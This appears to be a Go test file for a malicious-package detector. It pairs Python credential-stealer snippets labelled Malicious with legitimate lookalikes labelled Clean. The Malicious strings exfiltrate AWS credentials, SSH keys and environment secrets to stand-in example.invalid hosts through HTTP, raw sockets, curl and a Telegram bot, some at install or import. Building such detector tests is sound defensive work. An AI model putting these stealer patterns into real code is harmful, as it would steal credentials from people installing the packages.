package analyze

import "testing"

// Stealers whose sources and sinks are not plain files and HTTP bodies
// (issue 18, class 3): cloud SDK credential getters, credential files
// read with configparser, raw sockets, chat client libraries; each next
// to the legitimate code it resembles.
func TestStealerSourcesAndSinks(t *testing.T) {
	token := "123456789:AAHfakefakefakefakefakefakefakefake"
	tests := []verdictCase{
		{"AWS credentials posted on import", map[string]string{"p/__init__.py": "" +
			"import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('https://example.invalid/c', json={'k': c.access_key, 's': c.secret_key})\n"}, "", Malicious},
		{"AWS credentials signing a request", map[string]string{"p/client.py": "" +
			"import boto3, requests\nfrom botocore.auth import SigV4Auth\nfrom botocore.awsrequest import AWSRequest\n" +
			"def call(url, body):\n    creds = boto3.Session().get_credentials()\n    req = AWSRequest(method='POST', url=url, data=body)\n    SigV4Auth(creds, 'execute-api', 'eu-west-1').add_auth(req)\n" +
			"    return requests.post(url, data=body, headers=dict(req.headers))\n"}, "", Clean},
		{"AWS credentials sent by a chat bot the code holds, in a helper", map[string]string{"p/util.py": "" +
			"import boto3, telebot\ndef report():\n    c = boto3.Session().get_credentials().get_frozen_credentials()\n    bot = telebot.TeleBot('" + token + "')\n    bot.send_message(42, str(c))\n"}, "", Malicious},
		{"a refresh token exchanged with the login service", map[string]string{"p/auth.py": "" +
			"import google.auth, requests\ndef refresh():\n    creds, project = google.auth.default()\n" +
			"    return requests.post('https://oauth2.example.invalid/token', data={'grant_type': 'refresh_token', 'refresh_token': creds.refresh_token})\n"}, "", Clean},
		{"a credential file parsed and sent over a socket at install", map[string]string{"setup.py": "" +
			"import configparser, os, socket\ncp = configparser.ConfigParser()\ncp.read(os.path.expanduser('~/.aws/credentials'))\n" +
			"s = socket.socket()\ns.connect(('collector.example.invalid', 9000))\ns.send(str(dict(cp['default'])).encode())\n"}, "", Malicious},
		{"a profile's region read from the AWS config", map[string]string{"p/config.py": "" +
			"import configparser, os\ndef region(profile='default'):\n    cp = configparser.ConfigParser()\n    cp.read(os.path.expanduser('~/.aws/config'))\n    return cp[profile].get('region')\n"}, "", Clean},
		{"an SSH key sent over a raw socket at install", map[string]string{"setup.py": "" +
			"import os, socket\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns = socket.create_connection(('collector.example.invalid', 443))\ns.sendall(k.encode())\n"}, "", Malicious},
		{"an SSH key path given to paramiko", map[string]string{"p/ssh.py": "" +
			"import os, paramiko\ndef connect(host):\n    c = paramiko.SSHClient()\n    c.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n    return c\n"}, "", Clean},
		{"an SSH key sent as a chat document on import", map[string]string{"p/__init__.py": "" +
			"import os\nfrom telegram import Bot\nBot('" + token + "').send_document(chat_id=42, document=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n"}, "", Malicious},
		{"a report sent as a chat document by a command", map[string]string{"p/notify.py": "" +
			"from telegram import Bot\ndef send_report(token, chat_id, path):\n    Bot(token).send_document(chat_id=chat_id, document=open(path, 'rb'))\n"}, "", Clean},
		{"a key read into a name first set empty, sent by curl at install", map[string]string{"setup.py": "" +
			"import base64, os, subprocess\nURL = 'http://collect.example.invalid'\ndef steal():\n    key = ''\n" +
			"    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        key = f.read()\n    key = base64.b64encode(key.encode()).decode()\n" +
			"    subprocess.check_output(['curl', f'{URL}/?k={key}'])\nsteal()\n"}, "", Malicious},
		{"a download address first built, then taken from the environment, at install", map[string]string{"setup.py": "" +
			"import os, urllib.request\ndef fetch(target):\n    url = f'https://downloads.example.invalid/lib/{target}/latest.tgz'\n" +
			"    if 'LIB_URL' in os.environ:\n        url = os.environ['LIB_URL']\n    with urllib.request.urlopen(urllib.request.Request(url)) as r:\n        open('lib.tgz', 'wb').write(r.read())\nfetch('linux')\n"}, "", Clean},
		{"a secret from the environment in a URL's query on import", map[string]string{"p/__init__.py": "" +
			"import os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid/x?d=' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''))\n"}, "", Malicious},
	}
	runVerdictCases(t, tests, nil)
}
